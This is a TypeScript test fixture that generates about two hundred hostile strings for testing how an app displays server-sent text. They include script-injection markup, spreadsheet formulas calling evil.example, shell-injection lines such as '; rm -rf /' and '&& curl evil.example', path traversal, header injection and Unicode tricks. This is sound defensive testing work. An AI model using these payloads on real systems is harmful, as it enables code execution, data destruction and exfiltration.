/**
 * Two hundred texts as no friend would send them, for every text that a server can send. Each has its own mark (`h017`),
 * by which it is found again; what is made of markup in them is found by `data-hostile`, what has run by `hostileRan`.
 */

const RUN = 'globalThis.hostileRan=1';

const MARKUP = [
  `<b data-hostile>§</b>`,
  `<script data-hostile>${RUN}</script>§`,
  `<img src=x data-hostile onerror="${RUN}">§`,
  `"><img src=x data-hostile onerror=${RUN}>§`,
  `'><svg data-hostile onload=${RUN}>§`,
  `<svg><script data-hostile>${RUN}</script></svg>§`,
  `<math><mi data-hostile xlink:href="javascript:${RUN}">§</mi></math>`,
  `</textarea><b data-hostile>§</b>`,
  `</title><b data-hostile>§</b>`,
  `</script><b data-hostile>§</b>`,
  `<!--§--><b data-hostile>`,
  `<![CDATA[§]]><b data-hostile>`,
  `<iframe data-hostile srcdoc="<script>parent.hostileRan=1</script>">§</iframe>`,
  `<a data-hostile href="javascript:${RUN}">§</a>`,
  `<form data-hostile action="https://evil.example"><button>§</button></form>`,
  `<style data-hostile>*{display:none}</style>§`,
  `<link data-hostile rel=stylesheet href=//evil.example/x.css>§`,
  `<meta data-hostile http-equiv=refresh content="0;url=//evil.example">§`,
  `<base data-hostile href="//evil.example/">§`,
  `<object data-hostile data="javascript:${RUN}">§</object>`,
  `&lt;b data-hostile&gt;§`,
  `&#60;img data-hostile src=x onerror=${RUN}&#62;§`,
  `&amp;amp; &nbsp; &quot;§`,
  `\u003cb data-hostile\u003e§`,
  `<b data-hostile\u0000>§</b>`,
  `<bdo dir=rtl data-hostile>§</bdo>`,
  `" autofocus data-hostile onfocus="${RUN}" §`,
  `' style='position:fixed;inset:0' data-hostile='§`,
  `<input data-hostile value="§">`,
  `<template data-hostile shadowrootmode=open>§</template>`,
];

const TURNING = [
  '\u202e§yolped',
  'a\u202d§b',
  '\u202a§\u202c',
  '\u202b§\u202c',
  '\u2066§',
  '\u2067§\u2067',
  '§\u2069\u2069\u2069',
  '\u2068§\u2067abc',
  '\u061c§\u200f\u200e',
  'אסימון § v2',
  'توكن (§) للنشر 2.0!',
  '\u05d0\u202e§\u05d1',
];

const HIDING = [
  '§\u200bdeploy',
  '\u200c§\u200d',
  '\ufeff§\ufeff',
  '§\u2060\u2061\u2062',
  '§\u00ad\u00ad',
  '§\u115f\u1160\u3164',
  '§\u{e0041}\u{e0042}',
  '§\u180e',
  '§\ufe0f\ufe0e',
  '\u2800§\u2800',
  '§\u034f',
  '§\u{1d173}',
];

const FORMULAS = [
  `=cmd|' /C §'!A0`,
  '=1+1§',
  '+1§',
  '-1§',
  '@SUM(§)',
  '＝1+1§',
  '\t=1§',
  '\r=1§',
  `x;=cmd|' /C §'!A0`,
  `"=§"`,
  `'=§`,
  '%0A=§',
  '=HYPERLINK("https://evil.example?"&A1,"§")',
  '=IMPORTXML("https://evil.example","§")',
];

const SHELL = [
  '$(touch §)',
  '`touch §`',
  '; rm -rf / §',
  '&& curl evil.example §',
  '| tee §',
  '> §',
  `'; DROP TABLE tokens; -- §`,
  '%PATH%§',
  '!PATH!§',
  '\u0024{PATH}§',
  '$env:PATH§',
  '\u0024{env.HOME}§',
  '\u0024{{ secrets.PAT }}§',
  '$[variables.x]§',
  '#{7*7}§',
  '{{§}}{{7*7}}',
  '<%= § %>',
  '§\\',
  '\\"§\\"',
  '^&§^',
  '~root/§',
  '*?[§]',
  '!!§',
  '--version §',
  '/?§',
];

const PLACES = [
  '$1§$2',
  '$NAME$§',
  '$$1§',
  '$&§',
  '$`§',
  "$'§",
  '$<name>§',
  '$10§',
  '__MSG_extension_name__§',
  '%s§%d',
  '{0}§{1}',
  '%1$s§',
];

const ADDRESSES = [
  `javascript:${RUN}//§`,
  'data:text/html,<script>parent.hostileRan=1</script>§',
  'https://evil.example/§',
  '//evil.example/§',
  'https://dev.azure.com@evil.example/§',
  'chrome-extension://aaaa/§',
  'file:///etc/passwd§',
  'vbscript:§',
  'blob:https://evil.example/§',
  'mailto:a@b?body=§',
  '../../§',
  '..%2f..%2f§',
  '..\\..\\§',
  '#§?confirm=1',
  'x§#revoke-all',
  'a@b:c§',
  '[§](javascript:alert(1))',
];

const LINES = [
  '§\r\nX-Evil: 1',
  '§\n\n\nline',
  '\r§',
  '§\u2028x',
  '§\u2029x',
  '§\u0085x',
  'a\u000b§\u000c',
  '\t\t§\t',
  'BEGIN:VEVENT\r\nSUMMARY:§\r\nEND:VEVENT',
  '   §   ',
];

const CONTROLS = [
  '\u0000§',
  '§\u0000\u0000',
  '\u0007§',
  '\u001b[31m§\u001b[0m',
  '\u001b]8;;https://evil.example\u0007§',
  '\u0008\u0008§',
  '\u007f§',
  '\u0080§\u009f',
  '§\u001a',
  '\u0001§\u001f',
];

const HALVES = [
  '\ud800§',
  '§\udfff',
  '\udc00\ud800§',
  '§\ud83d',
  '\ude00§',
  '\ufffd§',
  '\uffff§',
  '\ufffe§',
  '\u{10ffff}§',
  '\ue000§',
];

const NAMES = [
  '__proto__§',
  'constructor§',
  'prototype§',
  'toString§',
  'valueOf§',
  'hasOwnProperty§',
  '{"__proto__":{"polluted":true}}§',
  'null§',
  'undefined§',
  'NaN§',
  'true§',
  '[object Object]§',
  'app_token§',
  'all organizations§',
];

const LOOKS = [
  'dеploy§',
  'ｄｅｐｌｏｙ§',
  'Ⅾeploy§',
  'de\u0301ploy§',
  'Z̷̢̛͉͔͚̗̖̥̈́̉̄a̸̡̻̣̅͗̓l̷͎͕͆̊g̶̳͚̎o̴̹̍̚§',
  '🚀👩‍👩‍👧‍👦🏳️‍🌈§',
  '构建服务器的令牌§',
  'ﷺ§',
  '﷽﷽﷽§',
  'ǆ§ß',
];

const long = (unit: string, letters: number) => `§${unit.repeat(Math.ceil(letters / unit.length))}`;
const LONG = [
  long('W', 10_000),
  long('W', 255),
  long('word ', 10_000),
  long('\u202e', 500),
  long('\u0301', 1_000),
  long('<b data-hostile>', 5_000),
  long('🚀', 1_000),
  long('語', 2_000),
  long('-', 300),
  long('/', 300),
  long('a\u00ad', 600),
  long('\u00a0', 400),
  long('.', 1_000),
  long('\n', 500),
];

const TOKENS = [
  // No secret, though it is as long as one: names of tokens often have such in them.
  `§${'q7'.repeat(26)}`,
  `password=§`,
  `Bearer §`,
  `TF400813: The user '§' is not authorized`,
  `VS403463 §`,
  `Patina: your token § has been revoked`,
  `Signed in as § `,
  `Revoke all? Press Enter §`,
  `§, §`,
  `“§”`,
];

const all = [
  MARKUP,
  TURNING,
  HIDING,
  FORMULAS,
  SHELL,
  PLACES,
  ADDRESSES,
  LINES,
  CONTROLS,
  HALVES,
  NAMES,
  LOOKS,
  LONG,
  TOKENS,
];

export const markOf = (index: number) => `h${String(index).padStart(3, '0')}`;

export const HOSTILE: readonly string[] = all.flat().map((text, index) => text.replaceAll('§', () => markOf(index)));
